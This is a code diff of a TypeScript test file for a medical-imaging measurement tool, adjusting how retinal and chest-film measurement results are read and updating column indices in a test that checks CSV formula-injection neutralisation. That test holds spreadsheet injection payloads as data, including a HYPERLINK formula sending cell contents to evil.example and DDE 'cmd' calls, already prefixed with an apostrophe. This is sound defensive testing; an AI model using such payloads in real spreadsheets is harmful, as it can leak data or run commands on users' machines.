@@ -265,7 +265,7 @@ test(
     // four quadrants around it have measured vessels; the overlay colours only vessel pixels.
     const measured = JSON.parse(
       readFileSync(join(folder, 'retina-vessels.measurements.json'), 'utf8'),
-    );
+    ).measurements;
     const vascular = measured.find((m: { kind: string }) => m.kind === 'retinal-vascular-metrics');
     const { opticDisc, quadrants, severity } = vascular.metrics;
     const discLuma =
@@ -345,7 +345,7 @@ test(
         assert.ok(existsSync(join(out, stem, file)), `${stem}/${file}`);
       const [ctr] = JSON.parse(
         readFileSync(join(out, stem, 'chest-lungs.measurements.json'), 'utf8'),
-      );
+      ).measurements;
       assert.equal(ctr.kind, 'cardiothoracic-ratio', JSON.stringify(ctr.error));
       const m = ctr.measurement;
       assert.ok(
@@ -370,7 +370,7 @@ test(
     }
     const [normal] = JSON.parse(
       readFileSync(join(out, 'normal_pa_wikimedia', 'chest-lungs.measurements.json'), 'utf8'),
-    );
+    ).measurements;
     const reference = (maxX - minX + 1) / normal.measurement.thoracicWidthPx;
     console.log(
       `# CTR on the normal film ${ratios.normal_pa_wikimedia!.toFixed(3)} vs heart outline ${reference.toFixed(3)}; RSNA film ${ratios['rsna_1.2.276.0.7230010.3.1.4.8323329.6904.1517875201.850819']!.toFixed(3)}`,
@@ -505,20 +505,20 @@ test('summary.csv: formula-like cells are neutralised with a leading apostrophe;
   const cells = (i: number) =>
     lines[i]!.match(/"(?:[^"]|"")*"/g)!.map((c) => c.slice(1, -1).replace(/""/g, '"'));
   assert.equal(cells(1)[0], `'=HYPERLINK("http://evil.example/?"&A1,"open")`);
-  assert.equal(cells(1)[6], '-0.25', 'a negative number is a number');
-  assert.equal(cells(1)[7], '-0.250000');
-  assert.equal(cells(2)[6], '+1');
-  assert.equal(cells(2)[7], '0.000000');
+  assert.equal(cells(1)[9], '-0.25', 'a negative number is a number');
+  assert.equal(cells(1)[10], '-0.250000');
+  assert.equal(cells(2)[9], '+1');
+  assert.equal(cells(2)[10], '0.000000');
   assert.equal(cells(3)[0], `'-cmd|' /C calc'!A0`);
-  assert.equal(cells(3)[11], "'@SUM(1+1)*cmd|");
+  assert.equal(cells(3)[14], "'@SUM(1+1)*cmd|");
   assert.equal(cells(4)[0], "'+A1");
-  assert.equal(cells(4)[11], "'\tTAB=1");
+  assert.equal(cells(4)[14], "'\tTAB=1");
   assert.equal(
     lines[5]!.startsWith(`"'\r=1+1"`),
     true,
     'a leading carriage return is neutralised too',
   );
-  assert.equal(cells(5)[11], '-2.5e-3');
+  assert.equal(cells(5)[14], '-2.5e-3');
 });
 
 test(
